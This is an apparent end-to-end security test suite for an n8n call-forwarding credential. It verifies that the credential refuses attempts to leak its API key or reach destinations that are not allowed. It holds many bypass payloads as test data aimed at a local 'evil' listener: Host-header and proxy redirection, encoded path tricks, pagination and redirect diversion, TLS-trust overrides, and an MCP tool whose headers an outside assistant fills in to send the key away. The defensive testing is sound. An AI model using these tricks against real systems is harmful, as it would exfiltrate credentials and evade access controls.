/** Ways round the credential's gate, each tried through n8n's own nodes, and credentials with expressions. */
import assert from 'node:assert/strict';
import { once } from 'node:events';
import { createServer } from 'node:net';
import type { AddressInfo, Server } from 'node:net';
import { after, afterEach, before, describe, it } from 'node:test';
import { Client } from '@modelcontextprotocol/sdk/client/index.js';
import { StreamableHTTPClientTransport } from '@modelcontextprotocol/sdk/client/streamableHttp.js';
import type { IDataObject } from 'n8n-workflow';
import { generate } from 'selfsigned';
import { CREDENTIAL_TYPE } from '../lib/package';
import { until } from '../lib/processes';
import { errorOf, output } from '../lib/rest';
import type { CredentialReference, Execution } from '../lib/rest';
import { startTlsFront } from '../lib/tlsFront';
import type { TlsFront } from '../lib/tlsFront';
import { callForward, chain, manualTrigger, node, rows } from '../lib/workflows';
import type { CallForwardCredential, WorkflowNode } from '../lib/workflows';
import { API_KEY, openWorld } from '../lib/world';
import type { World } from '../lib/world';

/** n8n 1.x has the HTTP Request node up to 4.3, and a GraphQL node that takes no credential of a service. */
const IS_V1 = process.env['E2E_N8N']?.startsWith('1.') === true;

const LINE = '33612345678';
const MOBILE = '+33698765432';
const PREMIUM = '+33899000000';

let world: World;
/** Where the attacks want the key to go: hears everything, answers nothing. */
let elsewhere: Server;
let evil: string;
let heard = '';
/** Credentials that the HTTP Request node may use, without and with Allowed Destinations. */
let open: CredentialReference;
let guarded: CredentialReference;

const credentialWith = (fields: Partial<CallForwardCredential>): Promise<CredentialReference> =>
	world.rest.createCredential({ apiKey: API_KEY, baseUrl: world.sandbox.baseUrl, ...fields });

before(async () => {
	world = await openWorld();
	elsewhere = createServer((socket) => {
		socket.on('error', () => undefined);
		socket.on('data', (bytes) => {
			heard += bytes.toString('latin1');
			socket.end('HTTP/1.1 502 Bad Gateway\r\nContent-Length: 0\r\nConnection: close\r\n\r\n');
		});
	}).listen(0, '127.0.0.1');
	await once(elsewhere, 'listening');
	evil = `localhost:${(elsewhere.address() as AddressInfo).port}`;
	open = await credentialWith({ allowedHttpRequestDomains: 'all' });
	guarded = await credentialWith({
		allowedHttpRequestDomains: 'all',
		allowedDestinations: '+336',
	});
});
after(async () => {
	elsewhere?.close();
	await world?.close();
});
afterEach(() => {
	world.sandbox.reset();
	heard = '';
});

const url = (path: string): string => `${world.sandbox.baseUrl}/${path}`;

/** An HTTP Request node that sends the credential's key along. */
const httpRequest = (
	version: number,
	parameters: IDataObject,
	credential: CredentialReference,
	more: Record<string, CredentialReference> = {},
): WorkflowNode =>
	node(
		'Request',
		'n8n-nodes-base.httpRequest',
		version,
		{
			authentication: 'predefinedCredentialType',
			nodeCredentialType: CREDENTIAL_TYPE,
			url: url('me'),
			options: {},
			...parameters,
		},
		{ credentials: { [CREDENTIAL_TYPE]: credential, ...more } },
	);

const graphQl = (headers: IDataObject[], credential: CredentialReference): WorkflowNode =>
	node(
		'Request',
		'n8n-nodes-base.graphql',
		1.1,
		{
			authentication: 'predefinedCredentialType',
			nodeCredentialType: CREDENTIAL_TYPE,
			endpoint: url('vn/callforward'),
			query: '{ a }',
			headerParametersUi: { parameter: headers },
		},
		{ credentials: { [CREDENTIAL_TYPE]: credential } },
	);

const run = (...nodes: WorkflowNode[]): Promise<Execution> =>
	world.rest.execute(chain('Gate', [manualTrigger(), ...nodes]));

const GATE_TEXTS =
	/This address is not at|A header takes|The header|The API key goes|With 'Allowed Destinations'|The destination is not allowed|This credential takes/;

function assertRefused(execution: Execution, text = GATE_TEXTS): void {
	assert.equal(execution.status, 'error', 'the request was let through');
	const error = errorOf(execution);
	assert.match(`${String(error?.message)} ${String(error?.description)}`, text);
	assert.deepEqual(world.sandbox.requests, []);
	assert.equal(heard, '', 'something arrived elsewhere');
	assert.ok(!execution.raw.includes(API_KEY), 'the key is in the execution');
}

const jsonHeaders = (headers: unknown): IDataObject => ({
	sendHeaders: true,
	specifyHeaders: 'json',
	jsonHeaders: JSON.stringify(headers),
});
const headerFields = (...parameters: IDataObject[]): IDataObject => ({
	sendHeaders: true,
	headerParameters: { parameters },
});
const postJson = (body: IDataObject, path = 'vn/callforward'): IDataObject => ({
	method: 'POST',
	url: url(path),
	sendBody: true,
	specifyBody: 'json',
	jsonBody: JSON.stringify(body),
});
const forward = (param: string): IDataObject => ({ number: LINE, type: 1, param });

for (const version of [3, 4.2, IS_V1 ? 4.3 : 4.4]) {
	describe(`the HTTP Request node, version ${version}`, () => {
		it('reads the account and sets a line, with a header of a gateway', async () => {
			const header = headerFields({ name: 'X-Gateway-Key', value: 'secret' });
			assert.equal((await run(httpRequest(version, header, guarded))).status, 'success');
			const post = { ...postJson(forward(MOBILE)), ...header };
			assert.equal((await run(httpRequest(version, post, guarded))).status, 'success');
			assert.deepEqual(world.sandbox.line(LINE), { type: 1, param: MOBILE });
		});

		const attacks: [name: string, parameters: () => IDataObject][] = [
			['a Host header', () => headerFields({ name: ' hOST ', value: evil })],
			['headers for all requests', () => jsonHeaders({ common: { Host: evil } })],
			['headers for a GET', () => jsonHeaders({ get: { Host: evil } })],
			[
				'headers for a POST',
				() => ({ ...postJson(forward(MOBILE)), ...jsonHeaders({ post: { Host: evil } }) }),
			],
			[
				'an object from an expression',
				() => headerFields({ name: 'common', value: `={{ { Host: '${evil}' } }}` }),
			],
			[
				'a form by its content type',
				() => ({
					...postJson({ ...forward(MOBILE), ' type': 1, ' param': PREMIUM }),
					...jsonHeaders({ post: { 'Content-Type': 'application/x-www-form-urlencoded' } }),
				}),
			],
			['another host', () => ({ url: `http://${evil}/v1/me` })],
			['a proxy', () => ({ options: { proxy: `http://${evil}` } })],
			['a destination that is not listed', () => postJson(forward(PREMIUM))],
			[
				'names in other letters',
				() => postJson({ number: LINE, type: 0, param: '', Type: 1, Param: PREMIUM }),
			],
			[
				'another path in a header',
				() => ({
					...postJson(forward(PREMIUM), 'me'),
					...headerFields({ name: 'X-Original-URL', value: '/v1/vn/callforward' }),
				}),
			],
			...[
				...['vn/%63allforward', 'vn/%2563allforward', 'vn/%u0063allforward', 'vn/%c1%a3allforward'],
				...['vn/\uFF43allforward', 'vn/call\u200Bforward', 'VN/CallForward', 'vn/callforward/'],
				...['index.php?_url=/v1/vn/callforward', '?route=vn%2F%63allforward'],
			].map((path): [string, () => IDataObject] => [
				`a path or query such as ${path}`,
				() => postJson(forward(PREMIUM), path),
			]),
			[
				'a query',
				() => ({
					...postJson(forward(PREMIUM), 'me'),
					sendQuery: true,
					queryParameters: { parameters: [{ name: '_url', value: '/v1/vn/callforward' }] },
				}),
			],
			[
				'a form',
				() => ({
					...postJson({}),
					contentType: 'form-urlencoded',
					specifyBody: 'keypair',
					bodyParameters: {
						parameters: Object.entries(forward(PREMIUM)).map(([name, value]) => ({ name, value })),
					},
				}),
			],
			[
				'raw text',
				() => ({
					...postJson({}),
					contentType: 'raw',
					rawContentType: 'application/json',
					body: JSON.stringify(forward(PREMIUM)),
				}),
			],
		];
		for (const [name, parameters] of attacks) {
			it(`is refused with ${name}`, async () => {
				assertRefused(await run(httpRequest(version, parameters(), guarded)));
			});
		}

		it('is refused where its pagination leads elsewhere, or changes a header', async () => {
			const paginated = (pagination: IDataObject): WorkflowNode =>
				httpRequest(
					version,
					{
						options: {
							pagination: {
								pagination: {
									paginationCompleteWhen: 'other',
									completeExpression: '={{ true }}',
									...pagination,
								},
							},
						},
					},
					guarded,
				);
			const next = { paginationMode: 'responseContainsNextURL', nextURL: `http://${evil}/v1/me` };
			const parameter = { type: 'headers', name: 'common', value: `={{ { Host: '${evil}' } }}` };
			assertRefused(await run(paginated(next)));
			assertRefused(
				await run(
					paginated({
						paginationMode: 'updateAParameterInEachRequest',
						parameters: { parameters: [parameter] },
					}),
				),
			);
		});

		it('follows no redirect', async () => {
			world.sandbox.addFault({
				kind: 'redirect',
				endpoint: 'me',
				status: 307,
				location: `http://${evil}/`,
			});
			await run(httpRequest(version, {}, open));
			assert.equal(world.sandbox.requests.length, 1);
			assert.equal(heard, '');
		});

		it('reads a timeout of any form', async () => {
			for (const timeout of [`={{ '5000' }}`, '={{ 1500.5 }}', `={{ 'soon' }}`]) {
				const execution = await run(httpRequest(version, { options: { timeout } }, open));
				assert.equal(execution.status, 'success', String(errorOf(execution)?.message));
			}
		});

		it('cannot use a credential that nobody opened for it', async () => {
			const refused = await run(httpRequest(version, {}, world.credential));
			assertRefused(refused, /prevent use within an HTTP Request/);
		});
	});
}

describe('the GraphQL node', { skip: IS_V1 }, () => {
	for (const name of ['common', 'post', 'Host']) {
		it(`is refused with a header ${name}`, async () => {
			const value = name === 'Host' ? evil : `={{ { Host: '${evil}' } }}`;
			assertRefused(await run(graphQl([{ name, value }], open)));
		});
	}
});

describe('an assistant outside n8n, with a tool whose headers it fills in', () => {
	it('cannot send the key to another site', async () => {
		const request = httpRequest(4.2, {}, open);
		const parameters: IDataObject = {
			...request.parameters,
			toolDescription: 'Reads the account',
			sendHeaders: true,
			specifyHeaders: 'json',
			jsonHeaders: "={{ $fromAI('headers', 'The headers as JSON', 'string') }}",
		};
		const tool = {
			...request,
			name: 'Account',
			type: 'n8n-nodes-base.httpRequestTool',
			parameters,
		};
		const trigger = node(
			'MCP Server Trigger',
			'@n8n/n8n-nodes-langchain.mcpTrigger',
			2,
			{ path: 'gate' },
			{ webhookId: crypto.randomUUID() },
		);
		await world.rest.createActive({
			...chain('MCP', [trigger]),
			nodes: [trigger, tool],
			connections: { Account: { ai_tool: [[{ node: trigger.name, type: 'ai_tool', index: 0 }]] } },
		});
		const address = new URL(`${world.n8n.url}/mcp/gate`);
		await until('the MCP server to be there', async () => {
			const { status } = await fetch(address, { method: 'POST' });
			return status === 404 ? undefined : true;
		});
		const client = new Client({ name: 'end-to-end', version: '1.0.0' });
		await client.connect(new StreamableHTTPClientTransport(address));
		try {
			const call = async (headers: object): Promise<string> =>
				JSON.stringify(
					await client.callTool({
						name: 'Account',
						arguments: { headers: JSON.stringify(headers) },
					}),
				);
			await call({ 'X-Request-Id': '1' });
			assert.equal(world.sandbox.requests.length, 1);
			for (const headers of [{ Host: evil }, { common: { Host: evil } }, { get: { Host: evil } }]) {
				assert.match(await call(headers), GATE_TEXTS);
			}
			assert.equal(world.sandbox.requests.length, 1);
			assert.equal(heard, '');
		} finally {
			await client.close();
		}
	});
});

describe('a server that n8n does not trust', () => {
	let front: TlsFront;
	let ca: string;
	let behindTls: CredentialReference;
	before(async () => {
		const { private: key, cert } = await generate([{ name: 'commonName', value: 'localhost' }], {
			extensions: [
				{ name: 'basicConstraints', cA: true, critical: true },
				{ name: 'subjectAltName', altNames: [{ type: 2, value: 'localhost' }] },
			],
		});
		ca = cert;
		front = await startTlsFront({ key, cert }, Number(new URL(world.sandbox.origin).port));
		const baseUrl = `https://localhost:${front.port}/v1`;
		behindTls = await credentialWith({ baseUrl, allowedHttpRequestDomains: 'all' });
	});
	after(() => front?.close());

	const me = (parameters: IDataObject, more?: Record<string, CredentialReference>): WorkflowNode =>
		httpRequest(
			4.2,
			{ url: `https://localhost:${front.port}/v1/me`, ...parameters },
			behindTls,
			more,
		);

	it('gets nothing', async () => {
		assertRefused(await run(me({})), /certificate|SSL/i);
	});

	it('gets nothing with Ignore SSL Issues', async () => {
		assertRefused(await run(me({ options: { allowUnauthorizedCerts: true } })));
	});

	it('gets nothing with a CA of its own in SSL Certificates', async () => {
		const httpSslAuth = await world.rest.data<CredentialReference>('POST', '/credentials', {
			name: 'A CA of its own',
			type: 'httpSslAuth',
			data: { ca, cert: '', key: '', passphrase: '' },
		});
		assertRefused(await run(me({ provideSslCertificates: true }, { httpSslAuth })));
	});
});

/** The items of rows that the node under test set, by fields that expressions find in them. */
async function set(credential: CredentialReference, items: IDataObject[]): Promise<IDataObject[]> {
	const parameters = {
		virtualNumber: '={{ $json.number }}',
		mode: 'callForwarding',
		forwardingNumber: MOBILE,
	};
	const execution = await run(
		...rows(items),
		callForward(parameters, credential, 'continueRegularOutput'),
	);
	return output(execution, 'Call Forward');
}

describe('expressions in a credential', () => {
	const LINES = ['33612345678', '33612345679', '262692123456'];

	for (const list of ['{{ $vars.allowed }}', '{{ undefined }}', '{{ $json.nope }}', '{{ null }}']) {
		it(`refuses every destination where the list is ${list}`, async () => {
			const items = await set(await credentialWith({ allowedDestinations: `=${list}` }), [
				{ number: LINE },
			]);
			assert.deepEqual(
				items.map(({ status, reason }) => [status, reason]),
				[['rejected', 'destinationNotAllowed']],
			);
			assert.deepEqual(world.sandbox.requests, []);
		});
	}

	it('allows every destination where nobody entered a list', async () => {
		for (const fields of [{}, { allowedDestinations: '' }]) {
			const [item] = await set(await credentialWith(fields), [{ number: LINE }]);
			assert.equal(item?.['success'], true, JSON.stringify(item));
			world.sandbox.reset();
		}
	});

	it('are resolved for each row: its key', async () => {
		const credential = await credentialWith({ apiKey: '={{ $json.key }}' });
		const keys = [API_KEY, 'another-key', API_KEY];
		const items = await set(
			credential,
			keys.map((key, i) => ({ number: LINES[i], key })),
		);
		assert.deepEqual(
			items.map(({ status, reason }) => [status, reason]),
			[
				['applied', undefined],
				['rejected', 'apiKeyRejected'],
				['applied', undefined],
			],
		);
		assert.deepEqual(
			LINES.map((line) => world.sandbox.line(line)?.type),
			[1, 0, 1],
		);
	});

	it('are resolved for each row: its list', async () => {
		const credential = await credentialWith({ allowedDestinations: '={{ $json.allowed }}' });
		const lists = ['', '+337', '+336'];
		const items = await set(
			credential,
			lists.map((allowed, i) => ({ number: LINES[i], allowed })),
		);
		assert.deepEqual(
			items.map(({ status, reason }) => [status, reason]),
			[
				['applied', undefined],
				['rejected', 'destinationNotAllowed'],
				['applied', undefined],
			],
		);
	});
});

describe('a credential that n8n cannot read', () => {
	it('says why, in the words of n8n', async () => {
		const failing = await credentialWith({ apiKey: "={{ $('Nobody').item.json.key }}" });
		const deleted = await credentialWith({});
		await world.rest.data('DELETE', `/credentials/${deleted.id}`);
		const words: [CredentialReference, RegExp][] = [
			[failing, /n8n says: .*node/],
			[deleted, new RegExp(deleted.id)],
		];
		for (const [credential, text] of words) {
			const [item] = await set(credential, [{ number: LINE }]);
			assert.equal(item?.['reason'], 'credentialUnreadable', JSON.stringify(item));
			assert.match(String(item?.['description']), text);
		}
	});
});

describe('a Base URL', () => {
	it('is sent as it was checked, by the node and by the test of the credential', async () => {
		const odd =
			world.sandbox.baseUrl.replace('http://127.0.0.1', ' HTTP://127.1') + '/x/..//\u200B ';
		const [item] = await set(await credentialWith({ baseUrl: odd }), [{ number: LINE }]);
		assert.equal(item?.['status'], 'applied', JSON.stringify(item));
		const tested = await world.rest.testCredential({ apiKey: API_KEY, baseUrl: odd });
		assert.equal(tested.status, 'OK', tested.message);
		assert.deepEqual(
			world.sandbox.requests.map(({ path }) => path),
			['/v1/vn/callforward', '/v1/me'],
		);
	});

	it('without its slashes, or with backslashes, is refused before anything is sent', async () => {
		const { host } = new URL(world.sandbox.baseUrl);
		for (const baseUrl of [`http:/${host}/v1`, `http:${host}/v1`, `http:\\\\${host}\\v1`]) {
			const [item] = await set(await credentialWith({ baseUrl }), [{ number: LINE }]);
			assert.deepEqual([item?.['status'], item?.['reason']], ['rejected', 'baseUrlInvalid']);
			assert.equal((await world.rest.testCredential({ apiKey: API_KEY, baseUrl })).status, 'Error');
		}
		assert.deepEqual(world.sandbox.requests, []);
	});
});
